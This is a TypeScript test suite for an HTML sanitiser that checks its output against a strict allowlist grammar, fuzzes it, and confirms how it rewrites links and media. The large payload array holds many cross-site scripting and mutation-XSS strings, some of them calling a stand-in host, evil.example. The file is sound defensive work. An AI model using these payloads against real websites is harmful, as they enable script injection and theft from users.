import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sanitiseHtml } from './sanitise.ts'

const attributesOf: Readonly<Record<string, Readonly<Record<string, RegExp>>>> = {
  a: {
    href: /^(?:https?:\/\/[^/\\\s]|(?!\/\/)[^:\\\s/?#]*(?:[/?#][^\\\s]*)?$)/,
    rel: /^(?:nofollow ugc )?noopener$/,
    target: /^_blank$/,
  },
  img: {
    src: /^(?:https:\/\/[^/\\\s]|(?!\/\/)[^:\\\s/?#]*(?:[/?#][^\\\s]*)?$)/,
    alt: /^[\s\S]*$/,
    width: /^\d+$/,
    height: /^\d+$/,
    loading: /^lazy$/,
    decoding: /^async$/,
  },
  ol: { start: /^\d+$/ },
  td: { colspan: /^\d+$/, rowspan: /^\d+$/ },
  th: { colspan: /^\d+$/, rowspan: /^\d+$/, scope: /^(?:row|col)$/ },
}
const plain =
  'p br strong em u s h2 h3 ul li blockquote pre code hr figure figcaption table caption thead tbody tfoot tr'.split(
    ' ',
  )
const voids = ['br', 'hr', 'img']

/** Why `html` isn't made of the allowed words only; undefined when it is. It reads by a grammar of its own. */
function fault(html: string): string | undefined {
  const open: string[] = []
  let rest = html
  while (rest !== '') {
    const text = /^(?:[^<>&"]|"|&(?:lt|gt|amp|quot);)+/.exec(rest)
    if (text) {
      rest = rest.slice(text[0].length)
      continue
    }
    const end = /^<\/([a-z0-9]+)>/.exec(rest)
    if (end) {
      if (open.pop() !== end[1]) return `</${end[1]}> closes nothing`
      rest = rest.slice(end[0].length)
      continue
    }
    const start = /^<([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/.exec(rest)
    if (!start) return `neither text nor tag: ${rest.slice(0, 60)}`
    const [whole, name = '', attributes = ''] = start
    const rules = attributesOf[name]
    if (!rules && !plain.includes(name)) return `<${name}>`
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (!rules?.[attribute]?.test(value.replaceAll('&amp;', '&'))) return `${name} ${attribute}=${value}`
    }
    if (!voids.includes(name)) open.push(name)
    rest = rest.slice(whole.length)
  }
  return open.length > 0 ? `<${open.join('><')}> stays open` : undefined
}

const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/y>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert`1`//',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)" /><a><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src/onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<img src="/ok.png" srcset="https://evil.example/a.png 2x" usemap="#m" ismap>',
  '<img src=//evil.example/track.gif>',
  '<img src="/\\evil.example/x.gif">',
  '<img longdesc="javascript:alert(1)" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)" src="/a.png">',
  '<picture><source srcset="data:image/svg+xml,x"><img src=x onerror=alert(1)></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u00adscript:alert(1)">x</a>',
  '<a href="javascript\uff1aalert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="https:evil.example" target=_self rel=opener>x</a>',
  '<a href="/ok" onclick=alert(1) onmouseover=alert(1) ping=https://evil.example download>x</a>',
  '<a href=/a style="position:fixed;inset:0">everything</a>',
  '<base href="https://evil.example/">',
  '<base href="javascript:/a/-alert(1)///////"><a href=../lol/x.html>x</a>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src=https://a.example><img src=x onerror=alert(1)>',
  '<iframe><iframe><iframe><script>alert(1)</script>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="><embed src="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<embed code="https://evil.example/x.swf" allowscriptaccess=always>',
  '<video><source onerror="alert(1)"></video>',
  '<video src=x onerror=alert(1) poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)><option><img src=x onerror=alert(1)></select>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)"><p>x',
  '<html><head><link rel=stylesheet href="https://evil.example/x.css"></head>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p id=location name=cookie class="dialog">clobbered</p>',
  '<a id=defaultView href="tel:1">x</a><img name=body src=/a.png>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<img alt="&quot; onerror=&quot;alert(1)" src="/a.png">',
  '<img alt="`><script>alert(1)</script>" src="/a.png">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
  '<x onclick=alert(1) contenteditable autofocus onfocus=alert(1) tabindex=0>x</x>',
  '<is:script>alert(1)</is:script><custom-element onconnected=x>',
  '<portal src="javascript:alert(1)"></portal>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
  '<table><caption><style></table><img src=x onerror=alert(1)>',
  '<td colspan="1 onmouseover=alert(1)">x</td>',
  '<ol start="1"><li value="2" onclick=alert(1)>x</ol>',
  '<p>&#0;&#1;&#x202e;x</p><a href="/&#1;/evil.example">x</a>',
  '<p>\ud800<img src=x onerror=alert(1)>\udfff</p>',
  '\u202e<a href="https://good.example">gpj.exe</a>',
  '<p a=1/onclick=alert(1)><b/onclick=alert(1)>x',
  '<a href=/x>1<table><a href=/y>2</table>3</a>',
]

describe('HTML that somebody typed', () => {
  it.each(payloads.map((payload) => [payload]))('is harmless: %s', (payload) => {
    for (const links of ['user', 'editor'] as const) {
      const { html } = sanitiseHtml(payload, { links })
      expect(fault(html)).toBeUndefined()
      expect(sanitiseHtml(html, { links }).html).toBe(html)
    }
  })

  it('is well-formed, of allowed words, and stable when cleaned twice', () => {
    const pieces = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      ' ',
      '&',
      ';',
      '<p',
      '</p>',
      '<a href=',
      '<img src=',
      '<svg',
      '<math>',
      '</svg>',
      '<style>',
      '</style',
      '<!--',
      '-->',
      '<table>',
      '<td',
      '<script',
      'javascript:',
      'on',
      'error=',
      '&#x',
      '\u0000',
      '字',
      '<iframe src=/v>',
      '</iframe>',
      '<noscript>',
      '<b>',
      '</b>',
      '<li>',
      '<h4>',
      '</a>',
      '<source src=/x>',
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 6 })), { maxLength: 24 }), (parts) => {
        const { html } = sanitiseHtml(parts.join(''), { links: 'user' })
        expect(fault(html)).toBeUndefined()
        expect(sanitiseHtml(html, { links: 'user' }).html).toBe(html)
      }),
      { numRuns: 3000 },
    )
  })

  it('keeps what a writer means', () => {
    const { html, text } = sanitiseHtml(
      '<h1 id="x">题</h1><p class="lead">甲<b>乙</b><i>丙</i><del>丁</del><br>戊 &amp; 己</p><ul><li>一</li><li>二</li></ul><ol start="3"><li>三</li></ol><blockquote><p>引</p></blockquote><pre><code>a &lt; b</code></pre><hr><table><thead><tr><th scope="col">列</th></tr></thead><tbody><tr><td colspan="2">格</td></tr></tbody></table><figure><img src="/p.webp" alt="" width="640" height="360"><figcaption>图</figcaption></figure>',
      { links: 'editor' },
    )
    expect(html).toBe(
      '<h2>题</h2><p>甲<strong>乙</strong><em>丙</em><s>丁</s><br>戊 &amp; 己</p><ul><li>一</li><li>二</li></ul><ol start="3"><li>三</li></ol><blockquote><p>引</p></blockquote><pre><code>a &lt; b</code></pre><hr><table><thead><tr><th scope="col">列</th></tr></thead><tbody><tr><td colspan="2">格</td></tr></tbody></table><figure><img src="/p.webp" alt="" width="640" height="360" loading="lazy" decoding="async"><figcaption>图</figcaption></figure>',
    )
    expect(text).toBe('题\n甲乙丙丁\n戊 & 己\n一\n二\n三\n引\na < b\n列\n格\n图')
  })

  it('vouches for no user’s link, opens the school’s normally', () => {
    const typed = '<a href="https://a.example/x?y=1&z=2" rel="dofollow" target="_top">外</a><a href="/course">内</a>'
    expect(sanitiseHtml(typed, { links: 'user' }).html).toBe(
      '<a href="https://a.example/x?y=1&amp;z=2" rel="nofollow ugc noopener" target="_blank">外</a><a href="/course" rel="nofollow ugc noopener" target="_blank">内</a>',
    )
    expect(sanitiseHtml(typed, { links: 'editor' }).html).toBe(
      '<a href="https://a.example/x?y=1&amp;z=2" rel="noopener" target="_blank">外</a><a href="/course">内</a>',
    )
  })

  it('turns foreign films and sounds into named links', () => {
    expect(
      sanitiseHtml('<iframe src="https://v.example/watch/1" allowfullscreen></iframe>', { links: 'editor' }).html,
    ).toBe('<a href="https://v.example/watch/1" rel="noopener" target="_blank">v.example</a>')
    expect(sanitiseHtml('<video controls src="/f.mp4">看片</video>', { links: 'editor' }).html).toBe(
      '<a href="/f.mp4">看片</a>',
    )
  })

  it('does not choke on text nested ten thousand deep', () => {
    const { html } = sanitiseHtml(`${'<blockquote>'.repeat(10_000)}深`, { links: 'user' })
    expect(html.match(/<blockquote>/g)?.length).toBeLessThan(30)
    expect(html).toContain('深')
  })
})
